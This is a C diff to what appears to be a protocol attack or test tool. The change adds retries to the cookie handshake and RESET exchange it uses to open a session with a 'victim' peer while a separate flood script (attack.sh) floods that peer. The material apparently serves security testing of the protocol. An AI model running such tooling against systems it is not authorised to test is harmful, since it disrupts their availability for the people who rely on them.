@@ -40,10 +40,13 @@ uint64_t fg_cookie(int fd, uint64_t src_tag)
 	return 0;
 }
 
-/* Sends our session's next DATA, an HS message of type answering seq. */
-static int fg_session_hs(struct fg *fg, enum fg_kind kind, uint32_t seq)
+/*
+ * Writes our session's next DATA at buf (256 bytes), an HS message of
+ * type answering seq; returns its length.
+ */
+static size_t fg_session_hs_build(struct fg *fg, enum fg_kind kind, uint32_t seq,
+				  uint8_t *buf)
 {
-	uint8_t buf[256];
 	const size_t srd = sizeof(struct rdmx_wire_srd);
 	struct rdmx_srd_hdr h;
 	size_t len;
@@ -52,7 +55,15 @@ static int fg_session_hs(struct fg *fg, enum fg_kind kind, uint32_t seq)
 	rdmx_wire_srd_encode((struct rdmx_wire_srd *) buf, &h);
 	len = srd + fg_build_hs(fg, kind, buf + srd);
 	((struct rdmx_wire_hs *) (buf + srd))->seq = htole32(seq);
-	return fg_send(fg, buf, len);
+	return len;
+}
+
+/* Sends our session's next DATA, an HS message of type answering seq. */
+static int fg_session_hs(struct fg *fg, enum fg_kind kind, uint32_t seq)
+{
+	uint8_t buf[256];
+
+	return fg_send(fg, buf, fg_session_hs_build(fg, kind, seq, buf));
 }
 
 /* Notes psn of the victim's session as received. */
@@ -136,28 +147,54 @@ void fg_session_poll(struct fg *fg)
 	}
 }
 
-/* Takes the cookie and opens an rdm session with the victim; 0 or -1. */
-int fg_session_open(struct fg *fg)
+/* Takes in what the victim sends for FG_ANSWER_MS or until it answered. */
+static void fg_session_await(struct fg *fg)
 {
-	struct fg_session *s = &fg->s;
-	uint64_t deadline;
+	uint64_t deadline = ft_now_ns() + FG_ANSWER_MS * 1000000ULL;
 
-	s->tag = fg_nonzero(fg);
-	s->epoch = (uint32_t) fg_nonzero(fg);
-	s->incarnation = fg_nonzero(fg);
-	if (fg_hello(fg, fg->fd, s->tag) || !(s->cookie = fg_cookie(fg->fd, s->tag)))
-		return ft_fail("--auth: no CHALLENGE came back"), -1;
-	if (fg_session_hs(fg, FG_HS_RESET, 0))
-		return -1;
-	deadline = ft_now_ns() + 2000000000ULL;
-	while (!s->peer_incarnation && ft_now_ns() < deadline) {
+	while (!fg->s.peer_incarnation && ft_now_ns() < deadline) {
 		uint8_t buf[FG_DGRAM_MAX];
 		ssize_t len = fg_recv(fg->fd, buf, sizeof(buf), 10);
 
 		if (len > 0)
 			fg_session_in(fg, buf, (size_t) len);
 	}
+}
+
+/*
+ * Takes the cookie and opens an rdm session with the victim; 0 or -1.
+ * Neither step's answer is owed to one datagram: the victim challenges
+ * at most 64 packets a millisecond, whoever sends them, and the flood
+ * this session opens beside (attack.sh) fills socket buffers, so the
+ * hello, the RESET or either answer may be lost. As a real peer does
+ * (its handshake is retried), each goes again, the RESET unchanged,
+ * every FG_ANSWER_MS, FG_TRIES times at most.
+ */
+int fg_session_open(struct fg *fg)
+{
+	struct fg_session *s = &fg->s;
+	uint8_t reset[256];
+	size_t len;
+
+	s->tag = fg_nonzero(fg);
+	s->epoch = (uint32_t) fg_nonzero(fg);
+	s->incarnation = fg_nonzero(fg);
+	while (s->hellos < FG_TRIES && !s->cookie) {
+		if (fg_hello(fg, fg->fd, s->tag))
+			return -1;
+		s->hellos++;
+		s->cookie = fg_cookie(fg->fd, s->tag);
+	}
+	if (!s->cookie)
+		return ft_fail("--auth: no CHALLENGE came back to %d hellos", FG_TRIES), -1;
+	len = fg_session_hs_build(fg, FG_HS_RESET, 0, reset);
+	while (s->resets < FG_TRIES && !s->peer_incarnation) {
+		if (fg_send(fg, reset, len))
+			return -1;
+		s->resets++;
+		fg_session_await(fg);
+	}
 	if (!s->peer_incarnation)
-		return ft_fail("--auth: the victim did not answer our RESET"), -1;
+		return ft_fail("--auth: the victim did not answer %d RESETs", FG_TRIES), -1;
 	return 0;
 }
